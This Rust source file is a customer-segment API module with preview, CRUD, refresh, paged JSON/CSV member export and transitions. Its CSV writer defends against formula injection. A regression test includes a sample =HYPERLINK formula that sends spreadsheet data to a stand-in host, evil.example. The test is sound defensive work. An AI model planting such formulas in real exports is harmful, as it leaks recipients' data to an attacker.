//! Segments: previews of an expression, and saved segments — created with a baseline
//! membership, refreshed after every scoring run (or on request), their members as JSON or CSV
//! pages, and the enter/exit transitions webhooks deliver.

use axum::Json;
use axum::body::Bytes;
use axum::extract::rejection::{BytesRejection, PathRejection};
use axum::extract::{Path, RawQuery, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use kanta_store::{Profile, RefreshCounts, Scope, SegmentInfo, StoreError, Transition};
use serde::{Deserialize, Serialize};
use utoipa::{IntoParams, ToSchema};

use crate::customers::{decode_cursor, encode_cursor};
use crate::error::ApiError;
use crate::{AppState, auth};

/// Customers shown with a preview.
const SAMPLE: u32 = 20;
/// Default and largest page of members or transitions.
const PAGE: u32 = 100;
const MAX_PAGE: u32 = 10_000;
/// Longest segment name.
const MAX_NAME: usize = 100;

/// A segment expression (see the README's segment language).
#[derive(Debug, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct PreviewRequest {
    /// E.g. `orders >= 2 and days_since_last_order > 60 and consent.email`.
    pub expression: String,
}

/// How many customers an expression selects now, and the first few.
#[derive(Debug, Serialize, ToSchema)]
pub struct PreviewResponse {
    /// Customers selected (erased ones excluded).
    pub count: i64,
    /// Up to 20 of them, in a stable order.
    pub sample: Vec<Profile>,
}

/// A segment to save.
#[derive(Debug, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct NewSegment {
    /// Unique name, 1–100 characters without control characters (e.g. `slipping-high-value`).
    pub name: String,
    /// The expression (see the README's segment language).
    pub expression: String,
}

/// Every saved segment.
#[derive(Debug, Serialize, ToSchema)]
pub struct SegmentList {
    /// By id.
    pub segments: Vec<SegmentInfo>,
}

/// One page of a segment's members.
#[derive(Debug, Serialize, ToSchema)]
pub struct MemberPage {
    /// Members as of the segment's last refresh, in a stable order.
    pub customers: Vec<Profile>,
    /// Pass as `cursor` for the next page; absent on the last page.
    pub next_cursor: Option<String>,
}

/// One page of a segment's transitions.
#[derive(Debug, Serialize, ToSchema)]
pub struct TransitionPage {
    /// Oldest first.
    pub transitions: Vec<Transition>,
    /// Pass as `cursor` for the next page; absent on the last page.
    pub next_cursor: Option<String>,
}

/// Query of the member and transition lists.
#[derive(Debug, Default, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct PageParams {
    /// `next_cursor` of the previous page.
    pub cursor: Option<String>,
    /// Page size, 1–10,000 (default 100).
    #[param(minimum = 1, maximum = 10000)]
    pub limit: Option<u32>,
    /// `json` (default) or `csv`; an `Accept: text/csv` header also selects CSV. A CSV page
    /// carries the next cursor in the `Kanta-Next-Cursor` header and a `Link: rel="next"`.
    pub format: Option<String>,
}

fn expression(text: &str) -> Result<kanta_segment::Expr, ApiError> {
    kanta_segment::parse(text).map_err(ApiError::InvalidExpression)
}

fn json_body<T: serde::de::DeserializeOwned>(body: Result<Bytes, BytesRejection>, shape: &str) -> Result<T, ApiError> {
    let body = body.map_err(ApiError::from)?;
    serde_json::from_slice(&body).map_err(|e| ApiError::BadRequest(format!("the body must be {shape}: {e}")))
}

fn segment_id(path: Result<Path<String>, PathRejection>) -> Result<i64, ApiError> {
    let Path(id) = path.map_err(|e| ApiError::BadRequest(e.body_text()))?;
    id.parse::<i64>().ok().filter(|id| *id > 0).ok_or_else(|| ApiError::NotFound(format!("no segment `{id}`")))
}

async fn saved(state: &AppState, id: i64) -> Result<SegmentInfo, ApiError> {
    state.store.segment(id).await?.ok_or_else(|| ApiError::NotFound(format!("no segment `{id}`")))
}

fn page_params(query: Option<&str>) -> Result<PageParams, ApiError> {
    let params: PageParams = crate::query_params(query)?;
    if let Some(limit) = params.limit.filter(|l| !(1..=MAX_PAGE).contains(l)) {
        return Err(ApiError::BadRequest(format!("limit must be 1–{MAX_PAGE}, not {limit}")));
    }
    Ok(params)
}

/// Count and sample the customers an expression selects, without saving it.
#[utoipa::path(post, path = "/v1/segments/preview", tag = "segments", request_body = PreviewRequest,
    security(("bearer" = [])),
    responses((status = 200, body = PreviewResponse), (status = 400, body = crate::error::ErrorBody),
              (status = 401, body = crate::error::ErrorBody), (status = 403, body = crate::error::ErrorBody),
              (status = 413, body = crate::error::ErrorBody),
              (status = 422, description = "The query ran past its time budget (`too_costly`)", body = crate::error::ErrorBody),
              (status = 503, description = "Every segment query slot is taken (`busy`; see Retry-After)", body = crate::error::ErrorBody)))]
pub async fn preview(
    State(state): State<AppState>,
    headers: HeaderMap,
    body: Result<Bytes, BytesRejection>,
) -> Result<Json<PreviewResponse>, ApiError> {
    auth::authorize(&state, &headers, Scope::Read).await?;
    let request: PreviewRequest = json_body(body, "{\"expression\": \"…\"}")?;
    let expr = expression(&request.expression)?;
    let now = state.now_micros();
    let count = state.store.segment_count(&expr, now).await?;
    let (sample, _) = state.store.segment_members(&expr, now, None, SAMPLE).await?;
    Ok(Json(PreviewResponse { count, sample }))
}

/// Save a segment. Its members are computed now (the live count is in `members`) and again
/// after every scoring run; who enters and leaves from then on is recorded as transitions.
#[utoipa::path(post, path = "/v1/segments", tag = "segments", request_body = NewSegment,
    security(("bearer" = [])),
    responses((status = 201, body = SegmentInfo), (status = 400, body = crate::error::ErrorBody),
              (status = 401, body = crate::error::ErrorBody), (status = 403, body = crate::error::ErrorBody),
              (status = 409, description = "The name is taken", body = crate::error::ErrorBody)))]
pub async fn create(
    State(state): State<AppState>,
    headers: HeaderMap,
    body: Result<Bytes, BytesRejection>,
) -> Result<(StatusCode, HeaderMap, Json<SegmentInfo>), ApiError> {
    auth::authorize(&state, &headers, Scope::Admin).await?;
    let request: NewSegment = json_body(body, "{\"name\": \"…\", \"expression\": \"…\"}")?;
    let name = request.name.trim();
    if name.is_empty() || name.chars().count() > MAX_NAME || name.chars().any(char::is_control) {
        return Err(ApiError::BadRequest(format!(
            "name must be 1–{MAX_NAME} characters without control characters, not `{}`",
            request.name.escape_debug()
        )));
    }
    let expr = expression(&request.expression)?;
    let created =
        state.store.create_segment(name, request.expression.trim(), &expr, state.now_micros()).await.map_err(|e| {
            match e {
                StoreError::Conflict(_) => ApiError::Conflict(format!("a segment named `{name}` exists")),
                e => ApiError::Store(e),
            }
        })?;
    let mut headers = HeaderMap::new();
    if let Ok(location) = HeaderValue::from_str(&format!("/v1/segments/{}", created.id)) {
        headers.insert(header::LOCATION, location);
    }
    Ok((StatusCode::CREATED, headers, Json(created)))
}

/// Every saved segment with its member count as of its last refresh.
#[utoipa::path(get, path = "/v1/segments", tag = "segments", security(("bearer" = [])),
    responses((status = 200, body = SegmentList), (status = 401, body = crate::error::ErrorBody),
              (status = 403, body = crate::error::ErrorBody)))]
pub async fn list(State(state): State<AppState>, headers: HeaderMap) -> Result<Json<SegmentList>, ApiError> {
    auth::authorize(&state, &headers, Scope::Read).await?;
    Ok(Json(SegmentList { segments: state.store.segments().await? }))
}

/// One saved segment.
#[utoipa::path(get, path = "/v1/segments/{id}", tag = "segments", security(("bearer" = [])),
    params(("id" = i64, Path, description = "The segment's id")),
    responses((status = 200, body = SegmentInfo), (status = 401, body = crate::error::ErrorBody),
              (status = 403, body = crate::error::ErrorBody), (status = 404, body = crate::error::ErrorBody)))]
pub async fn show(
    State(state): State<AppState>,
    headers: HeaderMap,
    path: Result<Path<String>, PathRejection>,
) -> Result<Json<SegmentInfo>, ApiError> {
    auth::authorize(&state, &headers, Scope::Read).await?;
    Ok(Json(saved(&state, segment_id(path)?).await?))
}

/// Delete a saved segment with its members and transitions.
#[utoipa::path(delete, path = "/v1/segments/{id}", tag = "segments", security(("bearer" = [])),
    params(("id" = i64, Path, description = "The segment's id")),
    responses((status = 204, description = "Deleted"), (status = 401, body = crate::error::ErrorBody),
              (status = 403, body = crate::error::ErrorBody), (status = 404, body = crate::error::ErrorBody)))]
pub async fn delete(
    State(state): State<AppState>,
    headers: HeaderMap,
    path: Result<Path<String>, PathRejection>,
) -> Result<StatusCode, ApiError> {
    auth::authorize(&state, &headers, Scope::Admin).await?;
    let id = segment_id(path)?;
    if state.store.delete_segment(id).await? {
        Ok(StatusCode::NO_CONTENT)
    } else {
        Err(ApiError::NotFound(format!("no segment `{id}`")))
    }
}

/// Recompute a segment's members now and record who entered and who left (scoring runs do
/// this for every segment; this is for a segment over fields that change between runs).
#[utoipa::path(post, path = "/v1/segments/{id}/refresh", tag = "segments", security(("bearer" = [])),
    params(("id" = i64, Path, description = "The segment's id")),
    responses((status = 200, body = RefreshCounts), (status = 401, body = crate::error::ErrorBody),
              (status = 403, body = crate::error::ErrorBody), (status = 404, body = crate::error::ErrorBody)))]
pub async fn refresh(
    State(state): State<AppState>,
    headers: HeaderMap,
    path: Result<Path<String>, PathRejection>,
) -> Result<Json<RefreshCounts>, ApiError> {
    auth::authorize(&state, &headers, Scope::Admin).await?;
    let segment = saved(&state, segment_id(path)?).await?;
    let expr = expression(&segment.expression)?;
    Ok(Json(state.store.refresh_segment(segment.id, &expr, state.now_micros()).await?))
}

/// A segment's members as of its last refresh, as JSON or CSV, a page at a time.
#[utoipa::path(get, path = "/v1/segments/{id}/customers", tag = "segments", security(("bearer" = [])),
    params(("id" = i64, Path, description = "The segment's id"), PageParams),
    responses((status = 200, description = "A page of members", content((MemberPage = "application/json"), (String = "text/csv"))),
              (status = 400, body = crate::error::ErrorBody), (status = 401, body = crate::error::ErrorBody),
              (status = 403, body = crate::error::ErrorBody), (status = 404, body = crate::error::ErrorBody)))]
pub async fn customers(
    State(state): State<AppState>,
    headers: HeaderMap,
    path: Result<Path<String>, PathRejection>,
    RawQuery(query): RawQuery,
) -> Result<Response, ApiError> {
    auth::authorize(&state, &headers, Scope::Read).await?;
    let id = segment_id(path)?;
    let params = page_params(query.as_deref())?;
    let csv = wants_csv(&params, &headers)?;
    let after = params.cursor.as_deref().map(decode_cursor).transpose()?;
    let segment = saved(&state, id).await?;
    let (customers, next) = state.store.segment_customers(segment.id, after, params.limit.unwrap_or(PAGE)).await?;
    let next_cursor = next.map(encode_cursor);
    if !csv {
        return Ok(Json(MemberPage { customers, next_cursor }).into_response());
    }
    let body = profiles_csv(&customers).map_err(|e| ApiError::BadRequest(format!("CSV: {e}")))?;
    let mut response = ([(header::CONTENT_TYPE, "text/csv; charset=utf-8")], body).into_response();
    if let Some(cursor) = next_cursor {
        let limit = params.limit.map_or(String::new(), |l| format!("&limit={l}"));
        let link = format!("</v1/segments/{id}/customers?format=csv{limit}&cursor={cursor}>; rel=\"next\"");
        for (name, value) in [("kanta-next-cursor", cursor), ("link", link)] {
            if let Ok(value) = HeaderValue::from_str(&value) {
                response.headers_mut().insert(name, value);
            }
        }
    }
    Ok(response)
}

/// Customers entering and leaving a segment, oldest first.
#[utoipa::path(get, path = "/v1/segments/{id}/transitions", tag = "segments", security(("bearer" = [])),
    params(("id" = i64, Path, description = "The segment's id"), PageParams),
    responses((status = 200, body = TransitionPage), (status = 400, body = crate::error::ErrorBody),
              (status = 401, body = crate::error::ErrorBody), (status = 403, body = crate::error::ErrorBody),
              (status = 404, body = crate::error::ErrorBody)))]
pub async fn transitions(
    State(state): State<AppState>,
    headers: HeaderMap,
    path: Result<Path<String>, PathRejection>,
    RawQuery(query): RawQuery,
) -> Result<Json<TransitionPage>, ApiError> {
    auth::authorize(&state, &headers, Scope::Read).await?;
    let id = segment_id(path)?;
    let params = page_params(query.as_deref())?;
    if params.format.as_deref().is_some_and(|f| f != "json") {
        return Err(ApiError::BadRequest("transitions are JSON only".into()));
    }
    let after = params.cursor.as_deref().map(decode_cursor).transpose()?;
    let segment = saved(&state, id).await?;
    let (transitions, next) = state.store.transitions(Some(segment.id), after, params.limit.unwrap_or(PAGE)).await?;
    Ok(Json(TransitionPage { transitions, next_cursor: next.map(encode_cursor) }))
}

fn wants_csv(params: &PageParams, headers: &HeaderMap) -> Result<bool, ApiError> {
    match params.format.as_deref() {
        Some("csv") => Ok(true),
        Some("json") => Ok(false),
        Some(other) => Err(ApiError::BadRequest(format!("format must be `json` or `csv`, not `{other}`"))),
        None => Ok(headers
            .get(header::ACCEPT)
            .and_then(|a| a.to_str().ok())
            .is_some_and(|a| a.split(',').any(|t| t.trim().starts_with("text/csv")))),
    }
}

/// The CSV columns of a member page: the profile, attributes as one JSON column.
const CSV_HEADER: [&str; 11] = [
    "id",
    "email",
    "phone",
    "name",
    "timezone",
    "locale",
    "birthday",
    "attributes",
    "created_at",
    "updated_at",
    "erased_at",
];

/// A cell as a spreadsheet may safely open it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is a formula to Excel, LibreOffice and Google Sheets (`=HYPERLINK(…)` sends
/// data away when clicked), so such a cell gets a leading `'`, which spreadsheets show as text
/// (OWASP's "CSV injection" advice). The cost: a phone `+358…` reads `'+358…` in the raw file.
fn spreadsheet_safe(cell: String) -> String {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}"),
        _ => cell,
    }
}

fn profiles_csv(profiles: &[Profile]) -> Result<Vec<u8>, csv::Error> {
    members_csv(profiles, true)
}

/// Segment members as CSV (the API's member pages and the dashboard's export write the same
/// columns): the profile, attributes as one JSON column, every cell spreadsheet-safe; the
/// header line first when `header`.
pub fn members_csv(profiles: &[Profile], header: bool) -> Result<Vec<u8>, csv::Error> {
    let mut out = csv::Writer::from_writer(Vec::with_capacity(128 * (profiles.len() + 1)));
    if header {
        out.write_record(CSV_HEADER)?;
    }
    for p in profiles {
        let attributes = p.attributes.as_ref().map(|a| a.to_string()).unwrap_or_default();
        let text = |v: &Option<String>| v.clone().unwrap_or_default();
        out.write_record(
            [
                p.id.clone(),
                text(&p.email),
                text(&p.phone),
                text(&p.name),
                text(&p.timezone),
                text(&p.locale),
                text(&p.birthday),
                attributes,
                p.created_at.clone(),
                p.updated_at.clone(),
                text(&p.erased_at),
            ]
            .map(spreadsheet_safe),
        )?;
    }
    out.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_pages_quote_what_needs_quoting_and_keep_ids_as_given() {
        let profile = Profile {
            id: "00042".into(),
            email: Some("a@example.com".into()),
            phone: None,
            name: Some("Ahti, \"A\" Virtanen".into()),
            timezone: None,
            locale: Some("fi".into()),
            birthday: None,
            attributes: Some(serde_json::json!({"tier": "gold"})),
            created_at: "2024-01-01T00:00:00Z".into(),
            updated_at: "2024-01-02T00:00:00Z".into(),
            erased_at: None,
        };
        let text = String::from_utf8(profiles_csv(&[profile]).expect("csv")).expect("utf-8");
        assert_eq!(
            text,
            "id,email,phone,name,timezone,locale,birthday,attributes,created_at,updated_at,erased_at\n\
             00042,a@example.com,,\"Ahti, \"\"A\"\" Virtanen\",,fi,,\"{\"\"tier\"\":\"\"gold\"\"}\",\
             2024-01-01T00:00:00Z,2024-01-02T00:00:00Z,\n"
        );
    }

    #[test]
    fn cells_that_spreadsheets_would_run_as_formulas_are_prefixed() {
        // Regression (issue 16): `=HYPERLINK(…)` and `=1+2` were exported as they are.
        let profile = Profile {
            id: "=1+2".into(),
            email: Some("@SUM(A1)".into()),
            phone: Some("+358401234567".into()),
            name: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into()),
            timezone: Some("-cmd".into()),
            locale: Some("\tfi".into()),
            birthday: Some("\r1990".into()),
            attributes: None,
            created_at: "2024-01-01T00:00:00Z".into(),
            updated_at: "2024-01-02T00:00:00Z".into(),
            erased_at: None,
        };
        let text = String::from_utf8(profiles_csv(&[profile]).expect("csv")).expect("utf-8");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let row = reader.records().next().expect("a row").expect("valid CSV");
        let cells: Vec<&str> = row.iter().take(7).collect();
        assert_eq!(
            cells,
            [
                "'=1+2",
                "'@SUM(A1)",
                "'+358401234567",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'-cmd",
                "'\tfi",
                "'\r1990"
            ]
        );
        assert_eq!(spreadsheet_safe("ok=fine".into()), "ok=fine");
        assert_eq!(spreadsheet_safe(String::new()), "");
    }

    #[test]
    fn csv_is_chosen_by_format_or_accept_and_other_formats_are_refused() {
        let params = |f: Option<&str>| PageParams { format: f.map(str::to_string), ..PageParams::default() };
        let mut accept = HeaderMap::new();
        accept.insert(header::ACCEPT, HeaderValue::from_static("text/html, text/csv;q=0.9"));
        assert!(wants_csv(&params(Some("csv")), &HeaderMap::new()).expect("csv"));
        assert!(!wants_csv(&params(Some("json")), &accept).expect("json wins over Accept"));
        assert!(wants_csv(&params(None), &accept).expect("Accept"));
        assert!(!wants_csv(&params(None), &HeaderMap::new()).expect("default"));
        assert!(wants_csv(&params(Some("xml")), &HeaderMap::new()).is_err());
    }
}
